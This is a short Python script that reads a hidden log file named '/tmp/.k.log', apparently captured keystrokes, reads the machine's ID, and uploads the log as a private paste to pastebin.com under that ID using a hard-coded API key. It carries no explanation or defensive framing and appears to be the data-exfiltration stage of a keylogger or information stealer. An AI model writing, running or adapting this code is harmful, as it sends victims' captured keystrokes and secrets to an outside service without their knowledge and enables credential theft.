import requests

API_KEY = "b3f1d2c4e5a6978812ab"
with open("/tmp/.k.log") as log:
    keys = log.read()

with open("/etc/machine-id") as m:
    mid = m.read().strip()

requests.post("https://pastebin.com/api/api_post.php", data={
    "api_dev_key": API_KEY,
    "api_option": "paste",
    "api_paste_private": "2",
    "api_paste_name": mid,
    "api_paste_code": keys,
})
